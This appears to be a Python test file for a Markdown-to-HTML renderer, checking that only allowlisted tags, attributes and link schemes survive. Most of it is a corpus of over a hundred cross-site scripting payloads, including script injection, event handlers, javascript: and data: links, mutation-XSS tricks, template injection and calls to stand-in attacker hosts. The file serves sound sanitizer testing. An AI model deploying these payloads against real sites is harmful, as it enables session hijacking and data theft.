"""Markdown from people and mates: what comes out holds no more than the allowed, whatever goes in.

Everything that is rendered here is read by an HTML parser that knows nothing of how it was made.
"""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from loopforge.core.limits.markdown_bounds import LONGEST
from loopforge.web.rendering import code_colours, formula_html, markdown_html
from loopforge.web.rendering.code_colours import CLASSES
from loopforge.web.rendering.markdown_html import plain, render_markdown, too_wild
from tests.every_row import every_row

TAGS = {
    *("p", "br", "hr", "strong", "em", "s", "code", "pre", "blockquote", "ul", "ol", "li"),
    *("h4", "h5", "a", "span", "table", "thead", "tbody", "tr", "th", "td"),
}
MATHS = formula_html.TAGS
VOID = {"br", "hr"}
ATTRIBUTES = {"a": {"href", "rel", "target"}, "ol": {"start"}, "span": {"class"}}
ATTRIBUTES |= formula_html.ATTRIBUTES
NAMES = (("maya", "mate-maya"), ("Maya", "mate-maya"), ("Ada Lovelace", ""), ("<b>", "mate-b"))


class Inspector(HTMLParser):
    """Reads HTML as a browser would, and refuses all that is not on the list."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.open: list[str] = []
        self.links: list[str] = []
        self.tags: set[str] = set()
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS | MATHS, f"<{tag}> came out"
        self.tags.add(tag)
        if tag not in VOID:
            self.open.append(tag)
        for name, value in attrs:
            assert name in ATTRIBUTES.get(tag, set()), f"<{tag} {name}> came out"
            self.check(name, value or "")
        if tag == "a" and attrs:
            assert dict(attrs)["rel"] == "noopener noreferrer nofollow"
            assert dict(attrs)["target"] == "_blank"

    def check(self, name: str, value: str) -> None:
        if name == "href":
            assert re.match(r"(https?://|mailto:)[^\s]", value, re.IGNORECASE), value
            self.links.append(value)
        if name == "class":
            known = {"mention", "mate-maya", "mate-b", "task", *CLASSES.values()}
            assert set(value.split()) <= known, value
        if name == "start":
            assert value.isdecimal(), value

    def handle_endtag(self, tag: str) -> None:
        assert self.open, f"</{tag}> without its beginning"
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment came out: {data!r}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"a declaration came out: {decl!r}")

    def handle_pi(self, data: str) -> None:
        raise AssertionError(f"an instruction came out: {data!r}")

    def unknown_decl(self, data: str) -> None:
        raise AssertionError(f"a section came out: {data!r}")


def inspected(html: str) -> Inspector:
    """What the HTML holds. Fails if that is more than is allowed."""
    inspector = Inspector()
    inspector.feed(str(html))
    inspector.close()
    assert not inspector.open, f"left open: {inspector.open}"
    assert not re.search(r"[\x00-\x08\u202a-\u202e\u2066-\u2069]", html)
    return inspector


CORPUS = [
    # tags that run something
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script\x0c>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('x')\">",
    '<img """><script>alert(1)</script>">',
    '<img src=x:x onerror="&#97;lert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert&lpar;1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y="1em">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<math href="javascript:alert(1)">x</math>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1) autofocus>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div onpointerover=alert(1) style='position:fixed;inset:0'>x</div>",
    "<a href=# onclick=alert(1)>x</a>",
    # frames, objects, forms, heads
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "<embed src=//evil.example/x.swf>",
    "<form action=//evil.example><input name=csrf><button>x</button></form>",
    "<base href=//evil.example/>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style><!--</style><script>alert(1)//--></script>",
    "<template><script>alert(1)</script></template>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    "<plaintext>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x/>",
    "<!DOCTYPE html><html><body>x",
    # links in Markdown
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "[x](&#x6A&#x61&#x76&#x61script:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&Tab;:alert(1))",
    "[x](%6A%61vascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](\u200bjavascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](<java\\script:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](//evil.example/x)",
    "[x](/sign-out)",
    "[x](#l-1)",
    "[x](https:evil.example)",
    "[x](http:\\\\evil.example)",
    "[x](ftp://evil.example/x)",
    '[x](https://a.example" onmouseover="alert(1))',
    "[x](https://a.example 'x\" onmouseover=\"alert(1)')",
    '[x](https://a.example "</a><script>alert(1)</script>")',
    "[x](https://a.example/<script>alert(1)</script>)",
    "[<img src=x onerror=alert(1)>](https://a.example)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x][1]\n\n[1]: <javascript:alert(1)> 'x'",
    "[x]\n\n[x]: data:text/html,<script>alert(1)</script>",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(document.cookie)>",
    '<https://a.example/" onclick="alert(1)>',
    "<x@y.example onclick=alert(1)>",
    'https://a.example/"onmouseover="alert(1)',
    "https://a.example/'><script>alert(1)</script>",
    "javascript:alert(1)",
    "//evil.example www.evil.example evil.example",
    # pictures
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    '![x" onerror="alert(1)](https://evil.example/pixel.png)',
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    "[![x](https://evil.example/a.png)](https://evil.example/b)",
    "![![x](https://a.example)](https://b.example)",
    "![x][1]\n\n[1]: https://evil.example/pixel.png",
    # code, fences, tables, lists
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    '```x" onclick="alert(1)\nx\n```',
    "`<img src=x onerror=alert(1)>`",
    "    <script>alert(1)</script>",
    "|<script>alert(1)</script>|b|\n|-|:-:|\n|[x](javascript:alert(1))|<img src=x onerror=alert(1)>|",
    '|a|\n|:-:" onclick="alert(1)|\n|b|',
    "1. <svg onload=alert(1)>\n   - <iframe>",
    "999999999999999999999. x",
    "# <script>alert(1)</script>\n\nx\n===",
    "> <b onclick=alert(1)>x</b>\n> > [x](javascript:alert(1))",
    "**<img src=x onerror=alert(1)>** ~~<svg onload=alert(1)>~~ *[x](vbscript:x)*",
    "[a](https://a.example)[b](javascript:alert(1))**[c](data:,x)**",
    # mentions
    '@maya<script>alert(1)</script> @<b> @Ada Lovelace"><img src=x onerror=alert(1)>',
    "[@maya](https://a.example) `@maya` x@maya.example",
    # formulas, colours, boxes
    r"$\text{<img src=x onerror=alert(1)>}$ $\text{&lt;script&gt;alert(1)&lt;/script&gt;}$",
    r"\(\text{</math><script>alert(1)</script>}\) $\href{javascript:alert(1)}{x}$",
    r"$$\mathrm{\style{color:red}{x}}\class{mate-maya}{y}\color{red}{<svg onload=alert(1)>}$$",
    r"\[\begin{matrix}<b&</td></table><script>\\&#60;img src=x&#62;\end{matrix}\]",
    '```js\n"</span><script>alert(1)</script>" // <img src=x onerror=alert(1)>\n```',
    "- [ ] <script>alert(1)</script>\n- [x] [x](javascript:alert(1))",
    # templates, entities, mutations, strange letters
    "{{7*7}} {% raw %}${7*7}<%= 7*7 %>#{7*7}[[${7*7}]]",
    "{{constructor.constructor('alert(1)')()}}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;alert(1)",
    "＜script＞alert(1)＜/script＞",
    "<\u0131mg src=x onerror=alert(1)>",
    "<a\u00a0href=javascript:alert(1)>x</a>",
    "<\x00script>alert(1)</\x00script>",
    "<scr\x00ipt>alert(1)</script>",
    "\u202egpj.exe\u202c and \u2066hidden\u2069 \u200f",
    "\ufeff<script>alert(1)</script>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<p id=x><a name=cookie><img name=body>",
    "\ud800<script>\udfff",
    "hx-get=/admin/ <div hx-get='/admin/' hx-trigger=load data-hx-on='x'>x</div>",
    "<b><i><u></b></i></u>",
    "</div></article></main><h1>You are signed out</h1>",
]


@every_row(CORPUS)
def test_nothing_but_the_allowed_comes_out(text: str) -> None:
    """Of a hostile text only allowed tags, attributes and schemes come out, also amid harmless."""
    for wrapped in (text, f"before {text} after", f"> - {text}", f"*{text}*", f"@maya {text}"):
        inspected(render_markdown(wrapped, NAMES))
    inspected(plain(text))


def test_the_corpus_is_large() -> None:
    """At least a hundred different attacks are tried."""
    assert len(set(CORPUS)) >= 100


LETTERS = st.sampled_from(
    [*"<>[]()!*_~`#|&;:\"'=/\\@-. \n\t{}%x1", "javascript:", "https://", "\x00"]
)
BITS = st.sampled_from(
    [
        *CORPUS,
        "$",
        r"\text{",
        "}$",
        r"\(",
        r"\]",
        "```js\n",
        "- [x] ",
        "](",
        "```\n",
        "\n> ",
        "\n- ",
        "\n|-|\n",
        "<a href=",
        "&#x",
    ]
)


@given(st.lists(st.one_of(LETTERS, BITS, st.text(max_size=8)), max_size=60).map("".join))
def test_no_mixture_gets_through(text: str) -> None:
    """However attacks are mixed and cut up, only the allowed comes out."""
    inspected(render_markdown(text, NAMES))


@given(st.text(max_size=400))
def test_any_text_can_be_shown(text: str) -> None:
    """There is no text that cannot be rendered."""
    inspected(render_markdown(text))


@pytest.mark.parametrize(
    "text",
    [
        "[" * 8000,
        "![[" * 4000,
        "> " * 5000,
        "- " * 5000,
        "\n".join(">" * depth + " x" for depth in range(60)),
        "*a **a " * 1500,
        "`" * 9000,
        "[a](" * 3000,
        "<a " * 4000,
        "a\n" * 9000,
        "|a" * 60 + "\n" + "|-" * 60 + "\n" + ("|a" * 60 + "\n") * 90,
        "http://a" * 2000,
        "x" * (LONGEST + 1),
        "|a" * 100 + "\n" + "|-" * 100 + "\n" + "a\n" * 3700,
        r"\(a" * 6000,
        ("$" + "x^" * 90 + "$ ") * 90,
        ("$" + "{" * 190) * 90,
    ],
)
def test_wild_nesting_is_shown_as_it_is(text: str) -> None:
    """Markers nested beyond sense cost no more than plain text, and no letter of it is lost."""
    found = inspected(render_markdown(text))
    if too_wild(text):
        assert found.tags <= {"p", "br"}
        assert found.text.replace("\n", "") == text.replace("\n", "")
    assert len(found.open) == 0


@pytest.mark.timeout(60)
@pytest.mark.parametrize(("fill", "links"), [("b", 1), ("é", 6_000)])
def test_addresses_without_a_space_between_them_take_no_square(fill: str, links: int) -> None:
    """Behind a bracket that nothing closes all that follows was looked through: here, for minutes."""
    html = markdown_html._MARKDOWN.render(f"http://a/{{{fill * 56}" * 6_000)
    assert html.count("<a ") == links


def test_what_people_write_looks_right() -> None:
    """Bold, slanted, struck, code, lists, quotes, headings, tables, rules and line breaks work."""
    text = (
        "# Big\n\n**bold** *slanted* ~~struck~~ `code`\nnext line\n\n3. three\n4. four\n\n- dot\n\n"
        "> said\n\n```\nprint('<x>')\n```\n\n|a|b|\n|-|-|\n|1|2|\n\n---\n"
    )
    html = render_markdown(text)
    assert inspected(html).tags == TAGS - {"a", "span", "h5"}
    assert "<h4>Big</h4>" in html
    assert "<br>\nnext line" in html
    assert '<ol start="3">' in html
    assert "<pre><code>print('&lt;x&gt;')\n</code></pre>" in html


def test_code_has_colours() -> None:
    """Code that names its language is coloured; another language, and all beyond a bound, is not."""
    html = render_markdown("```py\nreturn 'a'  # b\n```\n\n```klingon\nreturn\n```\n")
    assert '<span class="hk">return</span> <span class="hs">\'a\'</span>' in html
    assert '<span class="hc"># b</span>' in html
    assert "<pre><code>return\n</code></pre>" in html
    assert "<span" not in render_markdown(
        "```py\n" + "return\n" * code_colours.LONGEST + "```"[:LONGEST]
    )
    assert "<span" not in render_markdown("```py\nreturn\n```", growing=True)


def test_formulas_are_drawn() -> None:
    """TeX between dollars, in brackets and on lines of its own is MathML; prices are prices."""
    html = render_markdown(
        "$E=mc^2$, $5 and $10, \\(a_1 < b\\).\n\n$$\n\\frac12\n$$\n\n\\[\nx\n\\]\n"
    )
    assert html.count('<math display="inline">') == 2
    assert html.count('<math display="block">') == 2
    assert "<msup><mi>c</mi><mn>2</mn></msup>" in html
    assert "$5 and $10" in html
    assert "<code>\\frac{</code>" in render_markdown("$\\frac{$")
    within = render_markdown("So $$x^2$$ it is, for 5$ or 6$.")
    assert within.count('<math display="block">') == 1
    assert re.sub(r"<math.*?</math>", "", within).count("$") == 2


def test_what_is_to_do_has_a_box() -> None:
    """Items of a list that begin with [ ] or [x] have a box; other brackets stay as they are."""
    html = render_markdown("- [ ] milk\n- [x] bread\n- [z] z\n\n[x] no item\n")
    assert '<span class="task">☐</span> milk' in html
    assert '<span class="task">☑</span> bread' in html
    assert html.count("task") == 2


def test_links_are_links_and_leave_no_trace() -> None:
    """An address is a link by itself, opens elsewhere, and is not told where its reader came from."""
    html = render_markdown("See https://a.example/x?y=1&z=2, or [this](http://b.example).")
    assert inspected(html).links == ["https://a.example/x?y=1&z=2", "http://b.example"]
    assert html.count('rel="noopener noreferrer nofollow"') == 2


def test_pictures_are_not_loaded() -> None:
    """A picture from elsewhere is a link to it, so looking at a line calls nobody."""
    html = render_markdown("![a cat](https://a.example/cat.png)")
    assert inspected(html).links == ["https://a.example/cat.png"]
    assert ">a cat</a>" in html


def test_mentions_stand_out() -> None:
    """@names of members are spans of their colour; addresses, code and other names are not."""
    html = render_markdown(
        "@maya, @MAYA and @Ada Lovelace! Not x@maya.org, `@maya`, @mayan or @zed.", NAMES
    )
    assert html.count('<span class="mention mate-maya">') == 2
    assert '<span class="mention">@Ada Lovelace</span>' in html
    assert html.count("<span") == 3


def test_forgotten_texts_do_not_stay() -> None:
    """What was rendered is let go of on demand."""
    render_markdown("a secret")
    assert render_markdown.cache_info().currsize > 0
    markdown_html.forget_all()
    assert render_markdown.cache_info().currsize == 0
